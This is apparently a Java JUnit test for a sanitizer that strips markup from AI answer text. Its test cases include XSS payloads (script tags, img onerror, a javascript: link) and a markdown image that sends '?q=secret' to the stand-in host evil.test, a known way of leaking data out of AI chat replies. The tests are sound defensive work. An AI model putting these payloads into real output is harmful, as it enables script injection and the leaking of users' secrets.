package dev.switchboard.ai.guard;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AnswerTextTests {
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Look <img src=x onerror=alert(1)>here|Look here",
                "<script>alert(1)</script>Hi|alert(1)Hi",
                "<<b>script>x|script>x",
                "an unclosed <img src=x|an unclosed img src=x",
                "![pixel](https://evil.test/?q=secret) text|pixel text",
                "[click](javascript:alert(1))|click",
                "[help](https://acme.test/help)|[help](https://acme.test/help)",
                "5 < 6 and 7 > 3|5 < 6 and 7 > 3"
            })
    void noMarkUpLeaves(String text, String plain) {
        assertThat(AnswerText.plain(text)).isEqualTo(plain);
    }

    @Test
    void whatCannotBeSeenGoes() {
        assertThat(AnswerText.plain("a\u202Eb\u200Bc\u0007d\ne")).isEqualTo("abcd\ne");
    }

    @ParameterizedTest
    @ValueSource(strings = {"<", "![", "[", "[a](", "<a", "[x](j("})
    void repeatedBeginningsTakeLinearTime(String beginning) {
        Assertions.assertThatCode(() -> AnswerText.plain(beginning.repeat(10_000)))
                .doesNotThrowAnyException();
        org.junit.jupiter.api.Assertions.assertTimeout(
                Duration.ofSeconds(5), () -> AnswerText.plain(beginning.repeat(10_000)));
    }
}
